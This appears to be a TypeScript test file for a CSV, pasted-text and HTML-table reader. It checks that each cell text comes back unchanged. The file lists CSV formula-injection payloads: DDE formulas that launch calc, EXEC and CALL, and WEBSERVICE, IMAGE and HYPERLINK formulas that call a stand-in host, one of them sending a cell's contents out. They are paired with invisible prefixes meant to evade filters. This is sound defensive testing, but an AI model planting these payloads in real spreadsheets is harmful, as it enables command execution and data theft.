import { readList } from "../../src/csv/readList";
import { readPastedText } from "../../src/csv/readPastedText";

/** What may stand before a formula so that a filter does not see it. */
const prefixes = ["", " ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u200b", "\ufeff", "'", '"', "\u3000"];
/** What a program may run, call or fetch when it takes the text for a formula. */
const cores = [
  "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", '=HYPERLINK("//may.chu.vi.du/x";"Bấm vào đây")',
  '=WEBSERVICE("//may.chu.vi.du/"&A1)', '=IMAGE("//may.chu.vi.du/a.png")', "=IMPORTXML(A1;A2)", '=RTD("a.b";;"c")', "='\\\\may.chu.vi.du\\x'!A1",
  "=CALL(\"urlmon\";\"x\")", "=EXEC(\"calc\")", "=REGISTER.ID(\"a\";\"b\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=-2+3+cmd|' /C calc'!A0",
  "@=1+1", "+-1", "-+1", "=\n1+1", "=A1:A9999999", "%0A=1+1", "|calc", "{=1+1}", "=LAMBDA(x;x)(1)", "=INDIRECT(\"A1\")",
]; // prettier-ignore
/** Harmless texts that begin like formulas: nothing may be added to them or taken away. */
const asTyped = [
  "-5", "-", "--", "+", "@", "=", "- Tiếp tục giữ vững danh hiệu", "+ Vận động 12 hộ", "+84912345678", "-0,65%", "=> Đạt", "==", "@hoinongdan", "-/-", "(+)",
  "1-2", "05/04", "1e5", "0xFF", "TRUE", "#N/A", "00123", "'0912", "''", "’Hen", "– Chi bộ 1", "− 3", "*", "/", "\\\\may\\tep",
]; // prettier-ignore
const payloads = [...prefixes.flatMap((prefix) => cores.map((core) => prefix + core)), ...asTyped];

test("there are as many payloads as the lists promise", () =>
  expect(payloads).toHaveLength(prefixes.length * cores.length + asTyped.length));

test.each([",", ";", "\t", "|"] as const)(
  "every payload is the same text in its cell afterwards, quoted and with delimiter %j",
  (delimiter) => {
    const text = payloads.map((payload, index) => `${index}${delimiter}"${payload.replaceAll('"', '""')}"${delimiter}x`).join("\n");
    const got = readList(new TextEncoder().encode(text), "a.csv", { delimiter }).sheets[0]?.rows.map(({ cells }) => cells[1]);
    expect(got).toEqual(payloads);
    expect(readPastedText(text, { delimiter }).sheets[0]?.rows.map(({ cells }) => cells[1])).toEqual(payloads);
  },
);

test("every payload that needs no quotes is the same text without them", () => {
  const plain = payloads.filter((payload) => !/["\r\n\t]/.test(payload));
  const text = plain.map((payload, index) => `${index}\t${payload}\tx`).join("\n");
  expect(readList(new TextEncoder().encode(text), "a.txt").sheets[0]?.rows.map(({ cells }) => cells[1])).toEqual(plain);
});

test("payloads in a page's table are texts too", () => {
  const plain = [...cores, ...asTyped].filter((payload) => !payload.includes("\n"));
  const escaped = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  const page = `<table>${plain.map((payload) => `<tr><td>x<td>${escaped(payload)}</td></tr>`).join("")}</table>`;
  expect(readList(new TextEncoder().encode(page), "a.xls").sheets[0]?.rows.map(({ cells }) => cells[1])).toEqual(plain);
});
